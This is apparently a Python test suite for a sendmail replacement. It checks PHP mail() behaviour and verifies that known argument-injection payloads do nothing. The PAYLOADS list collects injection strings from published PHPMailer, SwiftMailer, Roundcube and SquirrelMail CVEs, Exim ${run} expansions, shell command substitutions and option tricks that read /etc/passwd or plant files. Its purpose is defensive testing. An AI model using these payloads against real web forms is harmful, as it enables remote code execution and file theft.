"""PHP's mail(), and the arguments that attackers have brought into sendmail's by it.

mail() takes text for sendmail's command line as its fifth parameter. It escapes what a
shell would act on, but not blanks: text from a web form can become options. The table
PAYLOADS holds what was published for Sendmail, Exim and others, and what msubmit has that
would be worth as much.
"""
import os
import shutil

from letter import SUBJECT, TEXT, TO, Client, want, want_words
from room import Failure, Sink

BOUNCE = 'bounce@example.org'
SCRIPT = '''<?php
list(, $to, $cc, $bcc, $subject) = $argv;
$head = "From: Shop <shop@example.org>\\r\\nMIME-Version: 1.0\\r\\n" .
    "Content-Type: text/plain; charset=utf-8\\r\\nContent-Transfer-Encoding: 8bit" .
    ($cc ? "\\r\\nCc: $cc" : '') . ($bcc ? "\\r\\nBcc: $bcc" : '');
exit(%s ? 0 : 1);
'''
MAIL = '''mail($to, mb_encode_mimeheader($subject, 'UTF-8', 'Q'),
    %s(file_get_contents('php://stdin')), $head, %s)'''
MB_MAIL = '''mb_language('uni') && mb_send_mail($to, $subject, file_get_contents('php://stdin'),
    'From: Shop <shop@example.org>' . ($cc ? "\\r\\nCc: $cc" : '') .
    ($bcc ? "\\r\\nBcc: $bcc" : ''))'''


def has_php():
    return shutil.which('php')


def php(expression, *settings):
    """A client that calls mail() with these settings of php.ini."""
    def send(room, to, cc, bcc):
        script = room.write('home/mail.php', SCRIPT % expression)
        argv = ['php'] + [w for s in settings for w in ('-d', s)]
        return room.call(argv + [script, to, cc, bcc, SUBJECT], TEXT)
    return send


def ends(text):
    """mail() writes a line end behind the text."""
    return text + '\n'


def ends_at_dot(text):
    """Without -i, sendmail's rule applies."""
    return text[:text.index('\n.\n') + 1]


def clients():
    plain = MAIL % ('', '""')
    yield Client('PHP mail()', has_php, php(plain), writes=ends, author='shop@example.org')
    for path, writes, sender in (
            ('/usr/sbin/sendmail -t -i', ends, None),
            ('/usr/sbin/sendmail -t -i -f ' + BOUNCE, ends, BOUNCE),
            ('sendmail -oi -t -r' + BOUNCE, ends, BOUNCE),
            ('/usr/sbin/sendmail -ti --read-envelope-from', ends, 'shop@example.org'),
            ('/usr/sbin/sendmail -t', ends_at_dot, None)):
        more = {'sender': sender} if sender else {}
        yield Client('PHP sendmail_path = ' + path, has_php,
                     php(plain, 'sendmail_path="%s"' % path), writes=writes, further=True, **more)
    yield Client('PHP mail(..., "-f' + BOUNCE + '")', has_php,
                 php(MAIL % ('', '"-f %s"' % BOUNCE)), writes=ends, sender=BOUNCE, further=True)
    yield Client('PHP mail.force_extra_parameters', has_php,
                 php(plain, 'mail.force_extra_parameters=-f' + BOUNCE, 'mail.add_x_header=On'),
                 writes=ends, sender=BOUNCE, further=True)
    yield Client('PHP mail(), text with CRLF', has_php,
                 php(MAIL % ('(fn($s) => str_replace("\\n", "\\r\\n", $s))', '""')), writes=ends,
                 further=True)
    yield Client('PHP mb_send_mail()', has_php, php(MB_MAIL), writes=str,
                 author='shop@example.org', further=True)


def false_on_failure(room):
    """A program that looks at what mail() returns sees a refusal, and why in its log."""
    send = php('var_export(' + MAIL % ('', '""') + ')')
    status, shown = send(room, 'unknown@example.org', '', '')
    want('status', status, 1)
    want_words(shown, ['false', '550 5.1.1 no such user'])


# --- injected arguments ------------------------------------------------------------------

# {out}: a file that must not appear. {rc}: a configuration of the attacker's, which sends
# to his server and runs programs. {port}: of his server.
PAYLOADS = [
    # PHPMailer, CVE-2016-10033 and the ways around its first mending, CVE-2016-10045
    '-f"attacker\\" -oQ/tmp/ -X{out} some"@example.org',
    "-f'\"attacker\\' -oQ/tmp/ -X{out} some\"@email.com'",
    '-f"attacker\\\' -oQ/tmp/ -X{out} some"@example.org',
    # SwiftMailer CVE-2016-10074, zend-mail CVE-2016-10034: the same by the sender
    '-f"attacker\\" -oQ/tmp/ -X{out}  some\\"@example.org"',
    # Roundcube CVE-2016-9920, SquirrelMail CVE-2017-7692, Horde, WordPress
    '-fattacker@example.org -OQueueDirectory=/tmp -X{out}',
    '-fattacker@example.org -OQueueDirectory=/tmp -X {out}',
    '-f attacker@localhost\t-oQ/tmp\t-C{rc}\t-X{out}',
    '-f attacker@localhost -oQ/tmp -C{rc}',
    '-f attacker@localhost -C {rc} -d {out}',
    '-C{rc}', '-C {rc} -v', '-tC{rc}', '-ifx@example.org -C{rc}',
    '-C/etc/passwd -X{out}', '-C /etc/passwd -OQueueDirectory=/tmp -D{out}',
    '-D{out}', '-D {out} -d0.1', '-d99.99 -D{out}', '-oX{out}', '-oL9 -X{out}', '-oS{out}',
    '-OLogLevel=14 -OAliasFile={rc}', '-oA{rc}', '-O ErrorHeader={rc}', '-OSafeFileEnvironment=/',
    # Exim: expansion, macros, configuration, Perl, queue
    "-be '${{run{{/bin/touch {out}}}}}'", '-be ${{run{{/bin/touch${{substr{{10}}{{1}}}}{out}}}}}',
    '-bem {rc}', '-bv ${{run{{/bin/touch {out}}}}}', '-oMr ${{run{{/bin/touch {out}}}}}',
    '-fa@example.org -be -X{out}', '-DX=${{run{{/bin/touch {out}}}}}', '-C{rc} -DX=y -be', '-ps',
    '-bt', '-bS', '-bs', '-Mvh 1', '-oMa 127.0.0.1', '-oB{rc}', '-bP', '-bd', '-bD', '-q1m',
    "-f'${{run{{/bin/touch {out}}}}}'@example.org", '-F${{run{{/bin/touch {out}}}}}',
    # a shell's
    '-f$(touch {out})@example.org', '-f`touch {out}`@example.org', '; touch {out}', '| tee {out}',
    '> {out}', '-f|touch {out}', '"|touch {out}"', '&& touch {out}', '\ntouch {out}',
    # what msubmit and msmtp have
    '--file={rc}', '--file {rc}', '--logfile={out}', '--trace={out}', '--debug-file={out}',
    '--password-command=touch,{out}', '--passwordeval=touch,{out}', '--tunnel=touch,{out}',
    '--tunnel "touch {out}"', '--oauth-token-command=touch,{out}', '--on-failure=touch,{out}',
    '--deliver=maildir:{out} -bD', '--port-file={out} -bD', '--dead-letter={out}',
    '--host=127.0.0.1 --port={port} --tls=off', '--host 127.0.0.1:{port}', '--port={port}',
    '--socket={out}', '--proxy=socks5://127.0.0.1:{port}',
    '--proxy-type=http --proxy-host=127.0.0.1 --proxy-port={port}',
    '--mx=on --resolver=127.0.0.1:{port}', '--password-file={rc}',
    '--smtp-command=NOOP', '--burl-part=@/etc/passwd', '--serverinfo --host=127.0.0.1:{port}',
    '--tls-session-cache={out}', '--aliases={rc}', '--netrc={rc}', '--attach=/etc/passwd',
    '--body-file=/etc/passwd', '--archive-dir={out}', '--configure=a@example.org',
    '--configure=a@example.org --output={out}', '--output={out}',
    '--import={rc}', '--print-config -C{rc}', '--vrfy=a@example.org --port={port}',
]
ATTACKER = '''[account default]
host = 127.0.0.1
port = %d
tls = off
logfile = %s
tunnel = touch %s
'''
INJECT = '<?php exit(mail("%s", "hello", "<?php touch(1); ?>", "", $argv[1]) ? 0 : 1);' % TO


NOBODY = ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups']


def has_nobody():
    """Root can become a web server's user."""
    return has_php() and not os.getuid() and shutil.which('setpriv')


def inject(payloads):
    """None of the payloads has any effect but a refusal, or mail to whom it was meant for."""
    def case(room):
        attacker = Sink()
        upload = os.path.join(room.root, 'upload')
        os.mkdir(upload)
        out, rc = os.path.join(upload, 'shell.php'), os.path.join(upload, 'photo.jpg')
        room.write('upload/photo.jpg', ATTACKER % (attacker.port, out, out))
        room.write('home/mail.php', INJECT)
        for path in (upload, rc, room.home):
            os.chown(path, 65534, 65534)
        try:
            for payload in payloads:
                word = payload.format(out=out, rc=rc, port=attacker.port)
                status, shown = room.call(NOBODY + ['php', 'mail.php', word])
                faults = harmless(room, upload, attacker, status, shown)
                if faults:
                    raise Failure('%s: %s\n%.500s' % (payload, faults, shown))
        finally:
            attacker.close()
    return case


def harmless(room, upload, attacker, status, shown):
    """What a payload has done, or None."""
    mails, room.sink.mails = room.sink.mails, []
    if os.listdir(upload) != ['photo.jpg']:
        return 'files: %r' % os.listdir(upload)
    if attacker.mails or attacker.connections:
        return 'the attacker was called'
    if status not in (0, 1):
        return 'status %d' % status
    if status == 0 and (not mails or any(TO not in m.order for m in mails)):
        return 'sent to %r' % [m.order for m in mails]
    if status == 1 and mails and "refused: address '" not in shown:    # a bad word stops nobody else
        return 'sent, and failed'
    return None if status == 0 or 'sendmail: ' in shown else 'no reason given'


def chunks(values, size):
    return [values[i:i + size] for i in range(0, len(values), size)]


TESTS = [test for client in clients() for test in client.tests()] + [
    ('PHP mail() returns false', has_php, false_on_failure)] + [
    ('PHP, injected: %s ...' % part[0].split('{')[0], has_nobody, inject(part))
    for part in chunks(PAYLOADS, 12)]
